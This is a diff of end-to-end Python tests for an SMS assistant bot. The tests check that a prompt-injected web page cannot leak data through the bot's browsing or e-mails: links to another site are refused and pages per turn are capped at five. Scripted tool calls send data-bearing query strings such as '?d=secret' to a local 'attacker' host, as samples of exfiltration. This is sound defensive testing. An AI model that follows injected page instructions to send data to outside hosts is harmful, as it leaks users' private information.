@@ -1,5 +1,5 @@
 """A hostile web page cannot get data out through what the bot does next: no remote resource in the
-e-mails it writes.
+e-mails it writes, no link to another site followed, no more than BROWSE_MAX_PER_TURN pages opened.
 
 End to end: a signed Twilio webhook in, the real tools against local HTTP servers (a site with an
 injected page, an « attacker » that records what reaches it) and the real SMTP server of the tests,
@@ -125,3 +125,54 @@ async def test_an_injected_page_gets_no_remote_resource_into_an_email(
     assert f'<a href="{site.base_url}/suite">{site.base_url}/suite</a>' in draft_html
     assert "/md?d=secret" not in draft_html
     assert other.requests == []  # nothing reached the other host
+
+
+async def test_a_page_links_are_followed_on_its_own_site_only(make_harness: Any, http_stub: Any) -> None:
+    site, other = await _servers(http_stub)
+    h = await _harness(make_harness, site, other)
+    h.llm.push_tool_calls(("browse_url", {"url": f"{site.base_url}/fractions"}, "c_page"))
+    h.llm.push_tool_calls(
+        ("browse_url", {"url": f"{other.base_url}/?d=s"}, "c_s"),
+        ("browse_url", {"url": f"{other.base_url}/?d=e"}, "c_e"),
+        ("browse_url", {"url": f"{other.base_url}/?d=c"}, "c_c"),
+        ("browse_url", {"url": f"{site.base_url}/suite?page=2"}, "c_own"),
+    )
+    h.llm.push_text("Voici le résumé.")
+    await h.inbound(PHONE, f"Résume-moi {site.base_url}/fractions stp")
+    await h.settle()
+
+    assert other.requests == []  # not one character of data reached the other host
+    assert [r["path_qs"] for r in site.requests] == ["/fractions", "/suite?page=2"]
+    results = _tool_results(h.llm.requests[2])
+    for call_id in ("c_s", "c_e", "c_c"):
+        assert results[call_id]["success"] is False and results[call_id]["code"] == "url_not_allowed"
+        assert "leads to another site" in results[call_id]["error"]
+    assert results["c_own"]["success"] is True
+    assert await h.texts_to(PHONE) == ["Voici le résumé."]
+
+
+async def test_a_turn_opens_at_most_browse_max_per_turn_pages(make_harness: Any, http_stub: Any) -> None:
+    site, other = await _servers(http_stub)
+    h = await _harness(make_harness, site, other)
+    assert h.settings.browse_max_per_turn == 5
+    h.llm.push_tool_calls(("browse_url", {"url": f"{site.base_url}/fractions"}, "c_page"))
+    h.llm.push_tool_calls(*[("browse_url", {"url": f"{site.base_url}/p{i}"}, f"c_{i}") for i in range(1, 5)])
+    h.llm.push_tool_calls(("browse_url", {"url": f"{site.base_url}/fractions"}, "c_again"),
+                          ("browse_url", {"url": f"{site.base_url}/p5"}, "c_sixth"))
+    h.llm.push_text("J'ai lu cinq pages.")
+    await h.inbound(PHONE, f"Lis {site.base_url}/fractions et toutes ses pages")
+    await h.settle()
+
+    assert [r["path_qs"] for r in site.requests] == [
+        "/fractions", *[f"/p{i}" for i in range(1, 5)], "/fractions"]  # a page read again is no new page
+    results = _tool_results(h.llm.requests[3])
+    assert all(results[f"c_{i}"]["success"] for i in range(1, 5)) and results["c_again"]["success"]
+    sixth = results["c_sixth"]
+    assert sixth["success"] is False and sixth["code"] == "too_many_pages"
+    assert "BROWSE_MAX_PER_TURN=5" in sixth["error"]
+    # The next message is a new turn, with its own pages.
+    h.llm.push_tool_calls(("browse_url", {"url": f"{site.base_url}/fractions"}, "c_next"))
+    h.llm.push_text("Relu.")
+    await h.inbound(PHONE, f"Relis {site.base_url}/fractions")
+    await h.settle()
+    assert _tool_results(h.llm.requests[-1])["c_next"]["success"] is True
